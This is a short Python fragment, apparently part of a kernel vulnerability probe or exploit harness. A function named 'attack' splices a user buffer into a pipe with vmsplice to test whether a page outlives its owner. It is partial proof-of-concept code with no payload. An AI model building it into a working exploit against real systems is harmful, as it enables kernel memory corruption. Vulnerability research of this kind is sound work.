"""A page of memory stays in a pipe's slot after its owner has let go of it; a large page too."""


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(told, tries):
    ours, theirs = os.pipe()
    memory = ctypes.create_string_buffer(1 << 12)
    vector = Vector(ctypes.addressof(memory), len(memory))
    tries.to("vmsplice", lambda: system_call((278, 75), theirs, ctypes.byref(vector), 1, 0) > 0)
